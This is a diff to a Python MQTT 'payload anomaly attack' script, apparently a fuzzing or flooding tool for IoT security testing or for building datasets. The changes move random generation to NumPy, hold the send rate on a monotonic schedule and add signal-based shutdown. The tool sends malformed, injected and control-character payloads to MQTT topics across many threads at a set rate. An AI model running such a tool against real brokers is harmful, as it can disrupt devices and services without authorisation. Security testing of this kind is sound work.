@@ -3,11 +3,13 @@ import csv
 import json
 import os
 import random
+import signal
 import string
 import threading
 import time
 from datetime import datetime, timezone
 
+import numpy as np
 import paho.mqtt.client as mqtt
 
 class PayloadAnomalyAttack:
@@ -17,6 +19,7 @@ class PayloadAnomalyAttack:
         self.log_writer, self.log_handle = self._prep_log(args.log_csv)
         self.log_lock = threading.Lock()
         self.sent_count = 0
+        self.rng = np.random.default_rng()
         
         self.anomaly_types = [
             "oversized_payload",
@@ -78,7 +81,7 @@ class PayloadAnomalyAttack:
             return random.choice(malformed_jsons)
             
         elif anomaly_type == "binary_data":
-            return bytes([random.randint(0, 255) for _ in range(random.randint(100, 1000))])
+            return self.rng.integers(0, 256, random.randint(100, 1000), dtype=np.uint8).tobytes()
             
         elif anomaly_type == "xml_injection":
             xml_payloads = [
@@ -120,11 +123,8 @@ class PayloadAnomalyAttack:
             return random.choice(unicode_chars)
             
         elif anomaly_type == "control_chars":
-            control_chars = [chr(i) for i in range(32)]
-            payload = "normal_text_"
-            for _ in range(50):
-                payload += random.choice(control_chars)
-            return payload
+            # 50 control chars (0x00-0x1F) trong một lần draw từ NumPy generator
+            return "normal_text_" + self.rng.integers(0, 32, 50, dtype=np.uint8).tobytes().decode('ascii')
             
         elif anomaly_type == "schema_violation":
             violation_payloads = [
@@ -160,6 +160,7 @@ class PayloadAnomalyAttack:
             return
 
         attack_interval = 1.0 / self.args.attack_rate if self.args.attack_rate > 0 else 1.0
+        next_send = time.monotonic()
         
         try:
             while not self.stop_event.is_set():
@@ -186,7 +187,11 @@ class PayloadAnomalyAttack:
                     self.log_attack(client_id, topic, anomaly_type, 0, "error", str(e))
                     print(f"[{client_id}] Error generating/sending payload: {e}")
                 
-                time.sleep(attack_interval)
+                # Absolute schedule on the monotonic clock so send time doesn't drag the attack rate down
+                next_send += attack_interval
+                delay = next_send - time.monotonic()
+                if delay > 0:
+                    time.sleep(delay)
                 
         except KeyboardInterrupt:
             pass
@@ -209,17 +214,16 @@ class PayloadAnomalyAttack:
             thread.start()
             threads.append(thread)
         
-        try:
-            while True:
-                time.sleep(1)
-        except KeyboardInterrupt:
-            print("\nStopping attack...")
-            self.stop_event.set()
-            
-            for thread in threads:
-                thread.join(timeout=5)
-            
-            print(f"Attack completed. Total anomalous payloads sent: {self.sent_count}")
+        # Ctrl+C / SIGTERM set stop_event; main thread blocks on it instead of polling
+        signal.signal(signal.SIGINT, lambda *_: self.stop_event.set())
+        signal.signal(signal.SIGTERM, lambda *_: self.stop_event.set())
+        self.stop_event.wait()
+        
+        print("\nStopping attack...")
+        for thread in threads:
+            thread.join(timeout=5)
+        
+        print(f"Attack completed. Total anomalous payloads sent: {self.sent_count}")
 
 def main():
     parser = argparse.ArgumentParser(description="MQTT Payload Anomaly Attack")